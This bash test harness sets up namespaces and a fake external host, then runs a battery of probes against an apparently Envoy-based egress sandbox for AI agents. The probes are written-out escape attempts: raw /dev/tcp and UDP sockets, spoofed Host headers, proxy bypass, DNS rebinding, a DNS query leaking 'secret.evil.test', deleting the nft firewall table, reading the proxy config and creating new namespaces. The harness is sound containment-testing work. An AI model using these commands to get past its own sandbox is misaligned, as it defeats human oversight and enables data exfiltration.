#!/usr/bin/env bash
# A machine of its own, with a world on one wire and `examples/netns` on another; then what an agent tries.
# To be run below `unshare --net --mount --pid --fork --kill-child`. Prints `probe NAME: RESULT` lines, and
# what the world saw.
set -euo pipefail

EXAMPLE=$1 TESTS=$2 TEMP=$3
WORLD=93.184.0.10

mount -t proc proc /proc
mkdir -p /run/netns /etc/netns
mount -t tmpfs none /run/netns
mount -t tmpfs none /etc/netns
# Envoy asks the same file as everybody.
printf '127.0.0.1 localhost\n%s allowed.test denied.test\n192.168.7.7 private.test\n%s rebound.t\n10.0.0.5 rebound.t\n' \
    "$WORLD" "$WORLD" >"$TEMP/hosts"
mount --bind "$TEMP/hosts" /etc/hosts
echo "nameserver $WORLD" >"$TEMP/resolv.conf"
mount --bind "$TEMP/resolv.conf" /etc/resolv.conf

ip link set lo up
ip netns add world
ip link add w0 type veth peer name w1 netns world
ip addr add 93.184.0.1/24 dev w0
# Also the way to an address that is not public.
ip addr add 10.0.0.1/24 dev w0
ip link set w0 up
ip -n world link set lo up
ip -n world addr add $WORLD/24 dev w1
ip -n world addr add 10.0.0.5/24 dev w1
ip -n world link set w1 up
ip -n world route add default via 93.184.0.1
# As on a machine that has containers.
sysctl -qw net.ipv4.ip_forward=1
ip netns exec world python3 "$TESTS/world.py" 0.0.0.0 10.0.0.5 >"$TEMP/world" &
world=$!
until grep -qs ready "$TEMP/world"; do kill -0 $world; sleep 0.1; done

"$EXAMPLE/up.sh" >"$TEMP/up" 2>"$TEMP/up.err" &
up=$!
# It gives up by itself.
until grep -qs '^up:' "$TEMP/up"; do
    kill -0 $up 2>/dev/null || { cat "$TEMP/up.err" >&2; exit 1; }
    sleep 0.1
done

# INVARIANT: no deadline here is what makes a probe fail. Each only ends a script that hangs.
agent() { timeout 120 "$EXAMPLE/run.sh" "$@"; }
probe() {
    local name=$1 result
    shift
    result=$(agent "$@" 2>&1 | tr '\n' ' ') || result="failed ($?) $result"
    echo "probe $name: $result"
}
web() {
    local name=$1
    shift
    probe "$name" curl -sS -m 60 -w ' %{http_code}' "$@"
}
open() { probe "$1" timeout 60 bash -c "exec 3<>$2 && echo -e 'GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n' >&3 && head -c 12 <&3"; }

web allowed http://allowed.test/
web denied http://denied.test/
web private http://private.test/
web by-address "http://$WORLD/"
web host-of-somebody-else -H 'Host: denied.test' http://allowed.test/
web address-of-somebody-else -H 'Host: allowed.test' "http://10.213.38.1/"
web no-proxy-variables --noproxy '*' http://denied.test/
web other-port "http://denied.test:8080/"
web tls -k https://allowed.test/
web connect -p -x http://10.213.38.1:15001 https://allowed.test/
web upgrade -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://allowed.test/
web escaped-slash 'http://allowed.test/a%2fb'
web underscore -H 'X_Soe: 1' http://allowed.test/
web old --http1.0 http://allowed.test/
# Envoy goes on to the second address of a name, which is not public.
web rebound http://rebound.t:81/
open smtp /dev/tcp/$WORLD/25
open dns-over-tcp /dev/tcp/$WORLD/53
open raw-http /dev/tcp/$WORLD/80
open admin /dev/tcp/10.213.38.1/9901
open ssh-of-the-machine /dev/tcp/10.213.38.1/22
open health /dev/tcp/10.213.38.1/3101
probe udp bash -c "echo x >/dev/udp/$WORLD/123; echo x >/dev/udp/$WORLD/443; sleep 0.3; echo sent"
probe dns-elsewhere perl -MSocket -e '
    socket(my $s, PF_INET, SOCK_DGRAM, 0); my $to = sockaddr_in(53, inet_aton($ARGV[0])); alarm 60;
    send($s, "\xab\xcd\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1", 0, $to); recv($s, my $answer, 512, 0);
    print inet_ntoa(substr($answer, -4))' $WORLD
probe names getent ahostsv4 secret.evil.test
probe icmp perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 1) or print "no: $!"'
probe packet perl -MSocket -e 'socket(my $s, 17, SOCK_RAW, 768) or print "no: $!"'
probe ipv6 bash -c "exec 3<>/dev/tcp/2606:4700::1111/80"
probe namespace unshare --user --map-root-user --net bash -c "ip link set lo up; curl -sS -m 2 http://$WORLD/"
probe rules nft delete table inet sentinel_sentinel
probe other-namespaces ip netns exec world true
probe proxy-uid setpriv --reuid 1337 true
probe key cat /run/sentinel-sentinel/envoy.yaml

# An agent that is root in its namespace, which run.sh does not allow, has still one wire.
root() { ip netns exec sentinel timeout 120 "$@"; }
echo "probe root-forward: $(root curl -sS -m 60 -o /dev/null -w '%{http_code}' -H 'Host: denied.test' "http://$WORLD/" 2>&1 || true)"
echo "probe root-udp: $(root bash -c "echo x >/dev/udp/$WORLD/443" 2>&1; echo sent)"
echo "probe root-icmp: $(root ping -c 1 -W 1 $WORLD 2>&1 | grep -c 'bytes from' || true)"

kill $up
wait $up 2>/dev/null || true
echo "left: $(ip netns list | tr '\n' ' ')$(nft list tables | tr '\n' ' ')$(ls -d /run/sentinel-sentinel 2>/dev/null || true)"
sed 's/^/saw: /' "$TEMP/world"
